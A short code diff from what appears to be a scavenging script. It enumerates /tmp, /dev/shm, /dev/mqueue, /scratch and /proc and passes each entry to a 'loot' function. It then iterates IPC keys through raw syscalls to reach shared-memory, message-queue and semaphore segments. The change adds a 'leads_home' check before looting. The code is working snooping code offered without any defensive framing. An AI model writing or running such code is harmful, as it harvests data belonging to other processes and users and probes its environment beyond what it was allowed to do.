@@ -12,7 +12,7 @@ if FIRST:
     tried("files")
     for folder in ("/tmp", "/dev/shm", "/dev/mqueue", "/scratch", "/proc"):
         for name in os.listdir(folder) if os.path.isdir(folder) else ():
-            loot(f"{folder}/{name}")
+            leads_home(f"{folder}/{name}") or loot(f"{folder}/{name}")
     tried("segments")
     for key in range(1, 200):
         for call, args in ((29, (key, 0, 0)), (68, (key, 0)), (64, (key, 0, 0))):
